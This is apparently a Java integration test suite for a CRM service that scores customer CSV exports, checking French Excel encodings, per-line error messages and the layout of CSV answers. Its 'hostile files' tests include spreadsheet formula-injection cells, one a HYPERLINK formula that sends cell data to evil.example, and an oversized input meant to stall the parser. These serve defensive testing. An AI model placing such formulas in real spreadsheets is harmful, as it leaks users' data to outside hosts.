package com.smoft.crm;

import static org.assertj.core.api.Assertions.assertThat;

import com.smoft.crm.csv.CustomerCsvReader;
import com.smoft.crm.scoring.ScoredRow;
import java.io.StringReader;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** CRM exports sent as they are, over real HTTP: French Excel files, CRM record ids, bad rows named by line. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class CsvBatchScoringTests {

    private static final Charset WINDOWS_1252 = Charset.forName("windows-1252");

    private static final String FRENCH_EXPORT = """
            Société;customer_id;total_spent;days_since_last_contact;total_contacts;emails_sent;emails_opened;website_visits;customer_age_days;Téléphone
            Élise Crémieux SARL;00Q5e00000AbCdE;1 500,50;5;10;8;6;15;120;01 23 45 67 89
            Boulangerie Gérard;1042;0,00;200;1;12;0;0;900;06 12 34 56 78
            Café des Arts;CUST-003;3 999,99;2;25;30;27;60;700;04 11 22 33 44
            """;

    private final LocalService service;
    private final JsonMapper json = JsonMapper.builder().build();

    CsvBatchScoringTests(@LocalServerPort int port) {
        this.service = new LocalService(port);
    }

    private HttpResponse<String> post(String path, String contentType, byte[] body) throws Exception {
        return post(path, contentType, body, "fr");
    }

    private HttpResponse<String> post(String path, String contentType, byte[] body, String language) throws Exception {
        return service.send(service.request(path)
                .header("Content-Type", contentType)
                .header("Accept-Language", language)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
    }

    @Test
    void shouldScoreAFrenchWindows1252ExportAsTheSameCustomersInJson() throws Exception {
        HttpResponse<String> csv = post("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252));
        assertThat(csv.statusCode()).as(csv.body()).isEqualTo(200);
        String customers = """
                {"clients": [
                 {"customer_id": "00Q5e00000AbCdE", "days_since_last_contact": 5, "total_contacts": 10, "total_spent": 1500.50, "emails_sent": 8, "emails_opened": 6, "website_visits": 15, "customer_age_days": 120},
                 {"customer_id": 1042, "days_since_last_contact": 200, "total_contacts": 1, "total_spent": 0, "emails_sent": 12, "emails_opened": 0, "website_visits": 0, "customer_age_days": 900},
                 {"customer_id": "CUST-003", "days_since_last_contact": 2, "total_contacts": 25, "total_spent": 3999.99, "emails_sent": 30, "emails_opened": 27, "website_visits": 60, "customer_age_days": 700}]}""";
        HttpResponse<String> same =
                post("/api/batch_score", "application/json", customers.getBytes(StandardCharsets.UTF_8));
        assertThat(json.readTree(csv.body())).isEqualTo(json.readTree(same.body()));
        assertThat(json.readTree(csv.body())
                        .get("results")
                        .get(1)
                        .get("customer_id")
                        .isNumber())
                .isTrue();
    }

    @Test
    void shouldReadUtf8WithAByteOrderMarkAndAcceptTheDeclaredCharset() throws Exception {
        byte[] utf8 = ("\uFEFF" + FRENCH_EXPORT).getBytes(StandardCharsets.UTF_8);
        assertThat(post("/api/batch_score?view=compact", "text/csv", utf8).statusCode())
                .isEqualTo(200);
        HttpResponse<String> declared = post(
                "/api/batch_score?view=compact",
                "text/csv; charset=windows-1252",
                FRENCH_EXPORT.getBytes(WINDOWS_1252));
        assertThat(declared.statusCode()).isEqualTo(200);
        assertThat(json.readTree(declared.body()).get("count").asInt()).isEqualTo(3);
        HttpResponse<String> unknown = post("/api/batch_score", "text/csv; charset=klingon", utf8);
        assertThat(unknown.statusCode()).isEqualTo(415);
        assertThat(unknown.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(unknown.body()).doesNotContain("Exception");
    }

    @Test
    void shouldNameEachBadRowByLineAndColumnOrSkipItWhenAsked() throws Exception {
        String withBadRows =
                FRENCH_EXPORT + "Sans nom;CUST-9;abc;5;10;8;6;15;120;\nAutre;CUST-10;10;-3;10;8;6;15;120;\n";
        HttpResponse<String> refused =
                post("/api/batch_score", "text/csv", withBadRows.getBytes(StandardCharsets.UTF_8), "en");
        assertThat(refused.statusCode()).isEqualTo(422);
        JsonNode problem = json.readTree(refused.body());
        assertThat(problem.get("detail").asString())
                .isEqualTo(
                        "2 invalid values, first line 5, column total_spent: must be a number, such as 1500.50 or 1500,50 (value 'abc')");
        List<String> where = new ArrayList<>();
        problem.get("errors")
                .forEach(error -> where.add(
                        error.get("line").asInt() + " " + error.get("column").asString() + " "
                                + error.get("value").asString() + " "
                                + error.get("code").asString() + " " + error.get("params")));
        assertThat(where)
                .containsExactly(
                        "5 total_spent abc not_a_number {\"decimal_comma\":true}",
                        "6 days_since_last_contact -3 out_of_range {\"min\":0}");
        assertThat(json.readTree(post("/api/batch_score", "text/csv", withBadRows.getBytes(StandardCharsets.UTF_8))
                                .body())
                        .get("detail")
                        .asString())
                .isEqualTo("2 valeurs refusées, la première ligne 5, colonne total_spent : doit être un nombre, par "
                        + "exemple 1500,50 (valeur « abc »).");

        HttpResponse<String> skipped =
                post("/api/batch_score?invalid=skip", "text/csv", withBadRows.getBytes(StandardCharsets.UTF_8));
        JsonNode answer = json.readTree(skipped.body());
        assertThat(answer.get("count").asInt()).isEqualTo(3);
        assertThat(answer.get("rejected_count").asInt()).isEqualTo(2);
        assertThat(answer.get("rejected").get(0).get("line").asInt()).isEqualTo(5);
        assertThat(answer.get("rejected").get(0).get("customer_id").asString()).isEqualTo("CUST-9");
        assertThat(answer.get("rejected")
                        .get(1)
                        .get("errors")
                        .get(0)
                        .get("code")
                        .asString())
                .isEqualTo("out_of_range");
    }

    @Test
    void shouldRefuseAFileThatIsNotACustomerCsvInWords() throws Exception {
        byte[] notCustomers = "nom;téléphone\nDupont;0123\n".getBytes(StandardCharsets.UTF_8);
        HttpResponse<String> noColumns = post("/api/batch_score", "text/csv", notCustomers, "en");
        assertThat(noColumns.statusCode()).isEqualTo(422);
        assertThat(noColumns.body()).contains("The CSV body: the header lacks the column(s) customer_id");
        JsonNode missing =
                json.readTree(post("/api/batch_score", "text/csv", notCustomers).body());
        assertThat(missing.get("detail").asString()).startsWith("Il manque à l'en-tête la ou les colonnes customer_id");
        assertThat(missing.get("code").asString()).isEqualTo("missing_column");
        assertThat(missing.get("params").get("columns")).hasSize(8);
        assertThat(missing.get("params").get("found").toString()).isEqualTo("[\"nom\",\"téléphone\"]");
        HttpResponse<String> headerOnly = post(
                "/api/batch_score",
                "text/csv",
                FRENCH_EXPORT.lines().findFirst().orElseThrow().getBytes(StandardCharsets.UTF_8));
        assertThat(headerOnly.statusCode()).isEqualTo(422);
        HttpResponse<String> unclosedQuote = post(
                "/api/batch_score",
                "text/csv",
                (FRENCH_EXPORT + "\"Sans fin;1;2;3;4;5;6;7;8;9\n").getBytes(StandardCharsets.UTF_8));
        assertThat(unclosedQuote.statusCode()).isBetween(400, 422);
        assertThat(unclosedQuote.headers().firstValue("Content-Type").orElse(""))
                .startsWith("application/problem+json");
    }

    @Test
    void shouldRefuseAUtf8FileBrokenFurtherOnNamingItsLineInBothLanguages() throws Exception {
        // UTF-8 over the first 64 KB the charset is told from, then a row in Windows-1252: pasted from another export.
        String utf8 = FRENCH_EXPORT + "Café du Port;CUST-9;10,00;3;4;5;6;7;8;01 23 45 67 89\n".repeat(2000);
        byte[] broken = concat(
                utf8.getBytes(StandardCharsets.UTF_8),
                "Brasserie Gérard;CUST-004;10;3;4;5;6;7;8;0\n".getBytes(Charset.forName("windows-1252")));
        for (String language : List.of("fr", "en")) {
            HttpResponse<String> refused = post("/api/batch_score", "text/csv", broken, language);
            assertThat(refused.statusCode()).isEqualTo(422);
            JsonNode problem = json.readTree(refused.body());
            assertThat(problem.get("code").asString()).isEqualTo("malformed_text");
            assertThat(problem.get("title").asString())
                    .isEqualTo(language.equals("fr") ? "Texte illisible" : "Unreadable text");
            assertThat(problem.get("params").get("line").asInt()).isEqualTo(2005);
            assertThat(problem.get("detail").asString())
                    .isEqualTo(
                            language.equals("fr")
                                    ? "La ligne 2005 contient des octets qui ne sont pas du texte UTF-8 : enregistrez le fichier"
                                            + " en « CSV UTF-8 » et envoyez-le de nouveau."
                                    : "line 2005 holds bytes that are not UTF-8 text: save the file as CSV UTF-8 and send it again");
        }
        // Excel's "Texte Unicode": UTF-16 with its byte order mark, tab-separated; the same scores.
        byte[] unicodeText = concat(
                new byte[] {(byte) 0xFF, (byte) 0xFE},
                FRENCH_EXPORT.replace(';', '\t').getBytes(StandardCharsets.UTF_16LE));
        assertThat(json.readTree(post("/api/batch_score", "text/csv", unicodeText)
                                .body())
                        .get("results"))
                .isEqualTo(json.readTree(
                                post("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(StandardCharsets.UTF_8))
                                        .body())
                        .get("results"));
    }

    @Test
    void shouldSayAnAmountWithADotBetweenThousandsIsAmbiguousInTheUsersWords() throws Exception {
        byte[] file = (FRENCH_EXPORT.lines().findFirst().orElseThrow()
                        + "\nBoulangerie Gérard;1042;1.500;200;1;12;0;0;900;06 12 34 56 78\n")
                .getBytes(StandardCharsets.UTF_8);
        JsonNode error = json.readTree(
                        post("/api/batch_score", "text/csv", file).body())
                .get("errors")
                .get(0);
        assertThat(error.get("code").asString()).isEqualTo("not_a_number");
        assertThat(error.get("params").get("ambiguous").asBoolean()).isTrue();
        // The page words it from the service's texts, by the same rule as the service: the ambiguous variant first.
        JsonNode reasons = json.readTree(service.get("/api/contract/reasons").body());
        assertThat(reasons.get("fr").get("not_a_number.ambiguous").asString())
                .startsWith("est ambigu dans un fichier à virgule décimale");
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private HttpResponse<byte[]> postForCsv(String path, String contentType, byte[] body) throws Exception {
        return postForCsv(path, contentType, body, "fr");
    }

    private HttpResponse<byte[]> postForCsv(String path, String contentType, byte[] body, String language)
            throws Exception {
        return service.client()
                .send(
                        service.request(path)
                                .header("Content-Type", contentType)
                                .header("Accept", "text/csv")
                                .header("Accept-Language", language)
                                .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                                .build(),
                        HttpResponse.BodyHandlers.ofByteArray());
    }

    @Test
    void shouldAnswerAFrenchExportInCsvThatFrenchExcelOpensWithTheFilesOwnColumnsFirst() throws Exception {
        HttpResponse<byte[]> answer = postForCsv("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252));
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
        byte[] bytes = answer.body();
        assertThat(new byte[] {bytes[0], bytes[1], bytes[2]}).containsExactly(0xEF, 0xBB, 0xBF);
        List<String> lines = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8)
                .lines()
                .toList();
        assertThat(lines.getFirst())
                .isEqualTo(
                        "Société;Téléphone;customer_id;score;segment;probability;priority;next_action;recommendation");
        assertThat(lines).hasSize(4);

        JsonNode json = this.json
                .readTree(post("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                        .body())
                .get("results");
        for (int i = 0; i < 3; i++) {
            String[] cells = lines.get(i + 1).split(";");
            JsonNode expected = json.get(i);
            assertThat(cells[2]).isEqualTo(expected.get("customer_id").asString());
            assertThat(cells[3]).isEqualTo(expected.get("score").asString());
            assertThat(cells[4]).isEqualTo(expected.get("segment").asString());
            assertThat(cells[5])
                    .isEqualTo(expected.get("probability").asString().replace('.', ','));
            assertThat(cells[8]).isEqualTo(expected.get("recommendation").asString());
        }
        assertThat(lines.get(1)).startsWith("Élise Crémieux SARL;01 23 45 67 89;00Q5e00000AbCdE;");
    }

    @Test
    void shouldWriteEveryAnswersColumnsAndRoundingAsTheScoredRowDeclaresThem() throws Exception {
        List<String> table = ScoredRow.TABLE.stream().map(ScoredRow.Column::key).toList();
        List<String> lines = new String(
                        postForCsv("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                                .body(),
                        StandardCharsets.UTF_8)
                .lines()
                .toList();
        assertThat(lines.getFirst()).endsWith(";" + String.join(";", table));
        List<String> all = new String(
                        postForCsv("/api/batch_score?columns=all", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                                .body(),
                        StandardCharsets.UTF_8)
                .lines()
                .toList();
        assertThat(all.getFirst()).endsWith(";Téléphone;" + String.join(";", table.subList(1, table.size())));

        JsonNode full = json.readTree(post("/api/batch_score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                        .body())
                .get("results");
        List<String> fields = new ArrayList<>(full.get(0).propertyNames());
        assertThat(fields)
                .containsExactlyElementsOf(
                        ScoredRow.JSON.stream().map(ScoredRow.Column::key).toList());
        JsonNode compact = json.readTree(
                        post("/api/batch_score?view=compact", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                                .body())
                .get("results");
        assertThat(new ArrayList<>(compact.get(0).propertyNames()))
                .containsExactlyElementsOf(
                        ScoredRow.COMPACT.stream().map(ScoredRow.Column::key).toList());
        for (int i = 0; i < 3; i++) {
            String probability = full.get(i).get("probability").asString();
            assertThat(probability.length() - probability.indexOf('.') - 1)
                    .isBetween(1, ScoredRow.PROBABILITY_DECIMALS);
            assertThat(lines.get(i + 1).split(";")[2 + table.indexOf("probability")])
                    .isEqualTo(probability.replace('.', ','));
        }
    }

    @Test
    void shouldAddTheNextStepColumnsWithTheWhatIfSearchAsTheJsonAnswerGivesThem() throws Exception {
        List<String> table = ScoredRow.TABLE.stream().map(ScoredRow.Column::key).toList();
        List<String> lines = new String(
                        postForCsv("/api/batch_score?whatif=true", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                                .body(),
                        StandardCharsets.UTF_8)
                .lines()
                .toList();
        assertThat(lines.getFirst())
                .endsWith(";" + String.join(";", table) + ";next_step;next_step_score;at_risk_after");
        JsonNode results = json.readTree(
                        post("/api/batch_score?whatif=true", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                                .body())
                .get("results");
        for (int i = 0; i < 3; i++) {
            List<String> cells = CSVFormat.DEFAULT
                    .builder()
                    .setDelimiter(';')
                    .get()
                    .parse(new StringReader(lines.get(i + 1)))
                    .getRecords()
                    .getFirst()
                    .toList();
            JsonNode result = results.get(i);
            int step = 2 + table.size();
            if (result.get("segment").asString().equals("Hot")) {
                JsonNode risk = result.get("at_risk_after");
                assertThat(result.has("next_step")).isFalse();
                assertThat(cells.get(step))
                        .isEqualTo(risk.get("text").asString())
                        .startsWith("Sans contact");
                assertThat(cells.get(step + 1)).isEmpty();
                assertThat(cells.get(step + 2))
                        .isEqualTo(
                                risk.get("days").isNull()
                                        ? ""
                                        : risk.get("days").asString());
            } else {
                JsonNode next = result.get("next_step");
                assertThat(result.has("at_risk_after")).isFalse();
                assertThat(cells.get(step)).isEqualTo(next.get("text").asString());
                assertThat(cells.get(step + 1)).isEqualTo(next.get("score").asString());
                assertThat(cells.get(step + 2)).isEmpty();
            }
        }
    }

    @Test
    void shouldAnswerACommaFileWithCommasAndPointsInScoreOrderWhenAsked() throws Exception {
        String comma =
                "name,customer_id,days_since_last_contact,total_contacts,total_spent,emails_sent,emails_opened,website_visits,customer_age_days\n"
                        + "\"Dupont, Jean\",1,200,1,0,12,0,0,900\n" + "Martin,2,2,25,4000,30,27,60,700\n";
        HttpResponse<byte[]> answer =
                postForCsv("/api/batch_score?sort=score", "text/csv", comma.getBytes(StandardCharsets.UTF_8));
        String text = new String(answer.body(), StandardCharsets.UTF_8);
        assertThat(text).doesNotStartWith("\uFEFF");
        List<String> lines = text.lines().toList();
        assertThat(lines.getFirst())
                .isEqualTo("name,customer_id,score,segment,probability,priority,next_action,recommendation");
        assertThat(lines.get(1)).startsWith("Martin,2,");
        assertThat(lines.get(2)).startsWith("\"Dupont, Jean\",1,").contains(",0.");
        assertThat(answer.headers().firstValue("X-Rejected-Count")).hasValue("0");

        // Texts with commas come back quoted, and read back as the JSON answer gives them, in either language.
        for (String language : List.of("fr", "en")) {
            List<CSVRecord> records = CSVFormat.DEFAULT
                    .builder()
                    .setHeader()
                    .get()
                    .parse(new StringReader(new String(
                            postForCsv(
                                            "/api/batch_score?sort=score",
                                            "text/csv",
                                            comma.getBytes(StandardCharsets.UTF_8),
                                            language)
                                    .body(),
                            StandardCharsets.UTF_8)))
                    .getRecords();
            JsonNode expected = this.json
                    .readTree(post(
                                    "/api/batch_score?sort=score",
                                    "text/csv",
                                    comma.getBytes(StandardCharsets.UTF_8),
                                    language)
                            .body())
                    .get("results");
            assertThat(records).hasSize(2);
            for (int i = 0; i < 2; i++) {
                assertThat(records.get(i).get("customer_id"))
                        .isEqualTo(expected.get(i).get("customer_id").asString());
                assertThat(records.get(i).get("priority"))
                        .isEqualTo(expected.get(i).get("priority").asString());
                assertThat(records.get(i).get("next_action"))
                        .isEqualTo(
                                expected.get(i).get("next_action").get("action").asString());
                assertThat(records.get(i).get("recommendation"))
                        .isEqualTo(expected.get(i).get("recommendation").asString());
            }
        }
    }

    @Test
    void shouldCarryEveryColumnOfTheFileWhenAskedWithTheIdOnce() throws Exception {
        HttpResponse<byte[]> answer =
                postForCsv("/api/batch_score?columns=all&sort=score", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252));
        assertThat(answer.statusCode()).isEqualTo(200);
        List<String> lines = new String(answer.body(), StandardCharsets.UTF_8)
                .substring(1)
                .lines()
                .toList();
        assertThat(lines.getFirst())
                .isEqualTo(FRENCH_EXPORT.lines().findFirst().orElseThrow()
                        + ";score;segment;probability;priority;next_action;recommendation");
        assertThat(lines).hasSize(4);
        // Every value as written in the file, the amounts with their spaces and decimal commas included.
        assertThat(lines)
                .anySatisfy(line -> assertThat(line)
                        .startsWith("Élise Crémieux SARL;00Q5e00000AbCdE;1 500,50;5;10;8;6;15;120;01 23 45 67 89;"));
        assertThat(postForCsv("/api/batch_score?columns=some", "text/csv", FRENCH_EXPORT.getBytes(WINDOWS_1252))
                        .statusCode())
                .isEqualTo(400);
    }

    @Test
    void shouldLeaveSkippedRowsOutOfTheCsvAnswerAndCountThem() throws Exception {
        String withBadRow = FRENCH_EXPORT + "Sans nom;CUST-9;abc;5;10;8;6;15;120;\n";
        HttpResponse<byte[]> answer =
                postForCsv("/api/batch_score?invalid=skip", "text/csv", withBadRow.getBytes(StandardCharsets.UTF_8));
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("X-Rejected-Count")).hasValue("1");
        assertThat(new String(answer.body(), StandardCharsets.UTF_8).lines())
                .hasSize(4)
                .noneMatch(line -> line.contains("CUST-9"));
        HttpResponse<byte[]> refused =
                postForCsv("/api/batch_score", "text/csv", withBadRow.getBytes(StandardCharsets.UTF_8));
        assertThat(refused.statusCode()).isEqualTo(422);
    }

    // Hostile files: what an attacker, or a careless export, sends.

    @Test
    void shouldRefuseACellOfAMillionDigitsAtOnceWithAShortAnswer() throws Exception {
        String digits = "9".repeat(1_000_000);
        String file = FRENCH_EXPORT.lines().findFirst().orElseThrow() + "\nX;1;" + digits + ";5;10;8;6;15;120;\n";
        long started = System.nanoTime();
        HttpResponse<String> answer = post("/api/batch_score", "text/csv", file.getBytes(StandardCharsets.UTF_8), "en");
        long took = System.nanoTime() - started;
        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body())
                .contains("line 2 holds a value longer than 65536 characters")
                .hasSizeLessThan(1000);
        // It took 14 s before values were bounded; the bound here is generous for a shared machine.
        assertThat(took).isLessThan(Duration.ofSeconds(3).toNanos());

        String longNumber =
                FRENCH_EXPORT.lines().findFirst().orElseThrow() + "\nX;1;" + "9".repeat(60_000) + ";5;10;8;6;15;120;\n";
        HttpResponse<String> tooLong =
                post("/api/batch_score", "text/csv", longNumber.getBytes(StandardCharsets.UTF_8));
        assertThat(tooLong.statusCode()).isEqualTo(422);
        assertThat(tooLong.body())
                .contains("must be a number of at most 100 characters")
                .hasSizeLessThan(1500);
    }

    @Test
    void shouldRefuseAFileWhoseEveryRowIsSkippedRatherThanAnswerNothingScored() throws Exception {
        String allBad = FRENCH_EXPORT.lines().findFirst().orElseThrow()
                + "\nA;CUST-1;abc;5;10;8;6;15;120;\nB;CUST-2;1;-5;10;8;6;15;120;\n";
        HttpResponse<String> answer =
                post("/api/batch_score?invalid=skip", "text/csv", allBad.getBytes(StandardCharsets.UTF_8));
        assertThat(answer.statusCode()).isEqualTo(422);
        JsonNode errors = json.readTree(answer.body()).get("errors");
        assertThat(errors).extracting(error -> error.get("line").asInt()).containsExactly(2, 3);
        assertThat(postForCsv("/api/batch_score?invalid=skip", "text/csv", allBad.getBytes(StandardCharsets.UTF_8))
                        .statusCode())
                .isEqualTo(422);
    }

    @Test
    void shouldCountEveryBadValueOfAnAllBadFileAlikeWhetherSkippingOrNot() throws Exception {
        StringBuilder allBad =
                new StringBuilder(FRENCH_EXPORT.lines().findFirst().orElseThrow()).append('\n');
        for (int row = 0; row < 1500; row++) {
            allBad.append("A;CUST-").append(row).append(";abc;-5;10;8;6;15;120;\n");
        }
        byte[] body = allBad.toString().getBytes(StandardCharsets.UTF_8);
        JsonNode refused =
                json.readTree(post("/api/batch_score", "text/csv", body).body());
        JsonNode skipped = json.readTree(
                post("/api/batch_score?invalid=skip", "text/csv", body).body());
        assertThat(refused.get("total_errors").asInt()).isEqualTo(3000);
        assertThat(skipped.get("total_errors").asInt()).isEqualTo(3000);

        String customer =
                "{\"customer_id\": 1, \"days_since_last_contact\": -1, \"total_contacts\": -1, \"total_spent\": 10,"
                        + " \"emails_sent\": 8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120}";
        byte[] batch = ("{\"clients\": [" + String.join(",", Collections.nCopies(1500, customer)) + "]}")
                .getBytes(StandardCharsets.UTF_8);
        JsonNode refusedJson = json.readTree(
                post("/api/batch_score", "application/json", batch).body());
        JsonNode skippedJson = json.readTree(
                post("/api/batch_score?invalid=skip", "application/json", batch).body());
        assertThat(refusedJson.get("total_errors").asInt()).isEqualTo(3000);
        assertThat(skippedJson.get("total_errors").asInt()).isEqualTo(3000);
    }

    @Test
    void shouldNeutraliseFormulaCellsInTheCsvAnswerAndKeepNumbersNumbers() throws Exception {
        String file = """
                name;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days;note;balance
                "=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")";CUST-1;5;10;1 500,50;8;6;15;120;@SUM(1+1);-12,5
                +33 6 12 34 56 78;=1+1;5;10;1500;8;6;15;120;"	cmd";-1 500,50
                """;
        HttpResponse<byte[]> answer =
                postForCsv("/api/batch_score?columns=all", "text/csv", file.getBytes(StandardCharsets.UTF_8));
        assertThat(answer.statusCode()).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.DEFAULT
                .builder()
                .setDelimiter(';')
                .get()
                .parse(new StringReader(new String(answer.body(), StandardCharsets.UTF_8).substring(1)))
                .getRecords();
        assertThat(rows.get(1).get(0)).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")");
        assertThat(rows.get(1).get(9)).isEqualTo("'@SUM(1+1)");
        assertThat(rows.get(1).get(10)).isEqualTo("-12,5");
        assertThat(rows.get(2).get(0)).isEqualTo("'+33 6 12 34 56 78");
        assertThat(rows.get(2).get(1)).isEqualTo("'=1+1");
        assertThat(rows.get(2).get(9)).isEqualTo("'\tcmd");
        assertThat(rows.get(2).get(10)).isEqualTo("-1 500,50");
        assertThat(rows)
                .allSatisfy(row -> assertThat(row.values())
                        .noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0));
    }

    @Test
    void shouldRenameTheFilesOwnScoreColumnsSoTheModelsAreTheOnlyScores() throws Exception {
        String file = """
                customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days;score;Segment;next_action
                1;400;0;0;0;0;0;10;100;Hot;constructor
                """;
        for (String language : List.of("fr", "en")) {
            HttpResponse<byte[]> answer = postForCsv(
                    "/api/batch_score?columns=all&sort=score",
                    "text/csv",
                    file.getBytes(StandardCharsets.UTF_8),
                    language);
            List<CSVRecord> rows = CSVFormat.DEFAULT
                    .builder()
                    .setDelimiter(';')
                    .get()
                    .parse(new StringReader(new String(answer.body(), StandardCharsets.UTF_8).substring(1)))
                    .getRecords();
            String suffix = language.equals("fr") ? " (fichier)" : " (file)";
            assertThat(rows.get(0).values())
                    .startsWith(file.lines()
                            .findFirst()
                            .orElseThrow()
                            .replace(
                                    ";score;Segment;next_action",
                                    ";score" + suffix + ";Segment" + suffix + ";next_action" + suffix)
                            .split(";"));
            assertThat(rows.get(0).values()).containsOnlyOnce("score", "segment", "next_action");
            int modelScore = Integer.parseInt(
                    rows.get(1).get(List.of(rows.get(0).values()).indexOf("score")));
            assertThat(modelScore).isLessThan(40);
            assertThat(rows.get(1).get(8)).isEqualTo("100");
        }
    }

    @Test
    void shouldAnswerACallListOfAThousandColumnsInScoreOrderAsInInputOrder() throws Exception {
        StringBuilder file = new StringBuilder(String.join(";", CustomerCsvReader.INPUT_COLUMNS));
        for (int column = 0; column < 1000; column++) {
            file.append(";c").append(column);
        }
        file.append('\n');
        for (int row = 0; row < 200; row++) {
            file.append(row)
                    .append(';')
                    .append(row * 3 % 400)
                    .append(";5;")
                    .append(row * 17)
                    .append(";8;")
                    .append(row % 9)
                    .append(";3;200");
            for (int column = 0; column < 1000; column++) {
                file.append(";v").append(row).append('-').append(column);
            }
            file.append('\n');
        }
        byte[] body = file.toString().getBytes(StandardCharsets.UTF_8);
        List<String> inOrder = new String(
                        postForCsv("/api/batch_score?columns=all", "text/csv", body)
                                .body(),
                        StandardCharsets.UTF_8)
                .lines()
                .toList();
        List<String> byScore = new String(
                        postForCsv("/api/batch_score?columns=all&sort=score", "text/csv", body)
                                .body(),
                        StandardCharsets.UTF_8)
                .lines()
                .toList();
        assertThat(byScore).hasSize(201).containsExactlyInAnyOrderElementsOf(inOrder);
        int scoreColumn = 1008;
        List<Integer> scores = byScore.subList(1, byScore.size()).stream()
                .map(line -> Integer.parseInt(line.split(";")[scoreColumn]))
                .toList();
        assertThat(scores).isSortedAccordingTo(Comparator.reverseOrder());
    }

    @Test
    void shouldReadAnExportThatNamesItsColumnsInFrenchAsTheSameCustomers() throws Exception {
        String french = """
                Nom;N° client;Jours depuis dernier contact;Nb contacts;Montant dépensé (€);Emails envoyés;Emails ouverts;Visites site;Ancienneté (jours)
                Élise Crémieux SARL;00Q5e00000AbCdE;5;10;1 500,50;8;6;15;120
                Boulangerie Gérard;1042;200;1;0,00;12;0;0;900
                """;
        String english = """
                customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days
                00Q5e00000AbCdE;5;10;1500,50;8;6;15;120
                1042;200;1;0;12;0;0;900
                """;
        HttpResponse<String> fromFrench =
                post("/api/batch_score?view=compact", "text/csv", french.getBytes(WINDOWS_1252));
        assertThat(fromFrench.statusCode()).as(fromFrench.body()).isEqualTo(200);
        assertThat(json.readTree(fromFrench.body()))
                .isEqualTo(json.readTree(
                        post("/api/batch_score?view=compact", "text/csv", english.getBytes(StandardCharsets.UTF_8))
                                .body()));

        HttpResponse<byte[]> csv =
                postForCsv("/api/batch_score?columns=all&sort=score", "text/csv", french.getBytes(WINDOWS_1252));
        assertThat(csv.headers().firstValue("X-Id-Column")).hasValue("1");
        List<String> lines = new String(csv.body(), StandardCharsets.UTF_8)
                .substring(1)
                .lines()
                .toList();
        assertThat(lines.getFirst())
                .startsWith("Nom;N° client;Jours depuis dernier contact;")
                .endsWith(";score;segment;probability;" + "priority;next_action;recommendation");
        HttpResponse<byte[]> extra = postForCsv("/api/batch_score", "text/csv", french.getBytes(WINDOWS_1252));
        assertThat(new String(extra.body(), StandardCharsets.UTF_8)
                        .substring(1)
                        .lines()
                        .findFirst()
                        .orElseThrow())
                .isEqualTo("Nom;customer_id;score;segment;probability;priority;next_action;recommendation");
        assertThat(extra.headers().firstValue("X-Id-Column")).hasValue("1");

        HttpResponse<String> missing =
                post("/api/batch_score", "text/csv", "Nom;N° client\nA;1\n".getBytes(StandardCharsets.UTF_8));
        assertThat(missing.statusCode()).isEqualTo(422);
        assertThat(missing.body()).contains("days_since_last_contact").contains("GET /api/contract");
    }
}
